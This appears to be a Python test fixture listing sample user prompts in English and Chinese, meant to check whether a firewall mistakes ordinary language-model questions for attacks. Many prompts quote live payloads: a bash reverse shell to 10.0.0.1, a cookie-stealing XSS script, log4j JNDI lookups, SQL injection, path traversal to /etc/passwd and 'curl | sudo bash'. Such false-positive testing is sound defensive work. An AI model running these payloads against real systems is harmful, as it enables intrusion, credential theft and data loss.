"""What people really ask a language model, and what a firewall takes for an attack."""

from __future__ import annotations

LONG_LOG = "2026-11-23T09:14:02Z ERROR worker-3 cannot open /var/log/app.log: permission denied\n" * 400
LONG_ESSAY = "请把下面这段文字翻译成英文,并保持语气不变:\n" + "山不在高,有仙则名。水不在深,有龙则灵。" * 700

PROMPTS = (
    # SQL
    "Explain what ' OR '1'='1 does in SELECT * FROM users WHERE name = '$name'.",
    "Rewrite this safely: \"SELECT * FROM orders WHERE id = \" + request.args['id']",
    "What is the difference between UNION SELECT and UNION ALL SELECT?",
    "Why is `'; DROP TABLE students; --` in xkcd 327 funny?",
    "Write a query that deletes duplicates: DELETE FROM t WHERE ctid NOT IN (SELECT min(ctid) FROM t GROUP BY email);",
    "Does SLEEP(5) or pg_sleep(5) show a blind injection? I am writing a test for our own login form.",
    "解释一下 SQL 注入:SELECT * FROM users WHERE id = 1 OR 1=1; --",
    "帮我优化这条语句:UPDATE account SET balance = balance - 100 WHERE id = 7; COMMIT;",
    # scripts and markup
    'Why does <script>alert("hello")</script> run when I put it into innerHTML?',
    "Review this: <img src=x onerror=alert(document.cookie)>",
    'Convert to React: <body onload="init()"><a href="javascript:void(0)" onclick="go()">Go</a></body>',
    'How do I embed a video? <iframe src="https://player.example.com/42"></iframe>',
    'Make this icon blue: <svg viewBox="0 0 8 8"><path d="M0 0h8v8z"/></svg>',
    "Explain prototype pollution: obj.__proto__.isAdmin = true",
    "What does `constructor:constructor` mean in the write-up of React2Shell?",
    "请解释 XSS:<script>location='https://example.com/?c='+document.cookie</script>",
    '这段代码为什么会弹窗?<a href="javascript:alert(1)">点我</a>',
    # paths and files
    "What is in /etc/passwd, and why is the second field an x?",
    "Explain path traversal with ../../etc/passwd and how to stop it in Flask.",
    "In Dockerfile: COPY ../../shared /app fails. Why?",
    "import config from '../../../config'; gives \"module not found\"",
    "Where does Windows keep hosts? Is it C:\\Windows\\System32\\drivers\\etc\\hosts?",
    "cat /proc/self/environ prints nothing, why?",
    "为什么 ../../etc/passwd 能读到系统文件?怎么防?",
    "怎么读取 /proc/self/status 里的内存占用?",
    # shell
    "What does `curl -s https://example.com/install.sh | sudo bash` do, and is it safe?",
    "Explain: $(cat /etc/hosts | grep localhost | awk '{print $1}')",
    "rm -rf / --no-preserve-root: what stops it on modern Linux?",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1 was in our logs. What is it?",
    '写一个脚本:for f in *.log; do gzip "$f"; done; rm -f ../old/*.gz',
    # Java and logging
    "Is ${jndi:ldap://example.com/a} in a log line dangerous with log4j 2.17?",
    "Explain ${${lower:j}ndi:${lower:l}dap://127.0.0.1/a} in CVE-2021-44228.",
    'What does Runtime.getRuntime().exec("whoami") return?',
    "java.lang.Runtime and ProcessBuilder: which one should I use?",
    "Spring4Shell: what does class.module.classLoader.resources do?",
    "什么是 ${jndi:rmi://example.com/x}?为什么 log4j 会去连接它?",
    # addresses and metadata
    "Why does curl http://169.254.169.254/latest/meta-data/iam/ hang in my container?",
    "My device answers at http://192.168.1.10/setup.php?cmd=reboot. How do I script it in Python?",
    "ftp://10.1.2.3/pub/file.txt does not open in Chrome any more. Alternatives?",
    "我的路由器地址是 http://192.168.0.1/admin,忘了密码怎么办?",
    # long
    "Summarise this log:\n" + LONG_LOG,
    LONG_ESSAY,
    "Find the bug:\n" + "<script>\n" + "let x = a[i]; // ../lib\n" * 600 + "</script>",
    # nothing special
    "Write a haiku about latency.",
    "用一句话解释什么是等时线。",
)
